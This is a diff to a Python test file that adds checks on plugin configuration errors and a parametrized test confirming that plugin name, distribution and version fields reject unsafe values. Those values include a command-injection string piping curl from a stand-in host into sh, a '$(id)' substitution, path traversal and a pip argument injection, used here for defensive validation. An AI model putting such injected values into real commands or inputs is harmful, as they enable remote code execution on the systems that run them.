@@ -308,9 +308,24 @@ def test_the_plugins_of_a_spec_are_recorded(tmp_path: Path, monkeypatch: pytest.
     assert config_of(folder)["plugins"] == [PLUGIN]
     assert config_of(folder)["unpackaged"] == []
     assert aezoo.load(folder).num_latents == 5
+    edit_config(folder, lambda config: config.update(plugins=[]))
+    assert "plugins: the layer 'sae.shift' of the plugin 'sae' is used, but not listed" in refused(
+        folder, "invalid-config"
+    )
+    edit_config(folder, lambda config: config.update(plugins=[PLUGIN | {"distribution": "other-sae"}]))
+    text = refused(folder, "missing-plugin")
+    assert "the installed one is of aezoo-sae; install other-sae==1.2.0 instead" in text
+    edit_config(folder, lambda config: config.update(plugins=[PLUGIN]))
     monkeypatch.setattr(registry, "_plugins", registry._plugins[:-1])
     del registry._claims["layer", "sae.shift"]
     assert "install aezoo-sae==1.2.0" in refused(folder, "missing-plugin")
+
+
+@pytest.mark.parametrize("field", ["name", "distribution", "version"])
+@pytest.mark.parametrize("text", ["x; curl evil | sh", "", "-e .", "a\nb", "../x", "$(id)"])
+def test_a_plugin_is_named_by_a_valid_name(folder: Path, field: str, text: str) -> None:
+    edit_config(folder, lambda config: config.update(plugins=[PLUGIN | {field: text}]))
+    assert f"plugins.0.{field}" in refused(folder, "invalid-config")
 
 
 def test_the_error_of_a_broken_plugin_is_shown(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
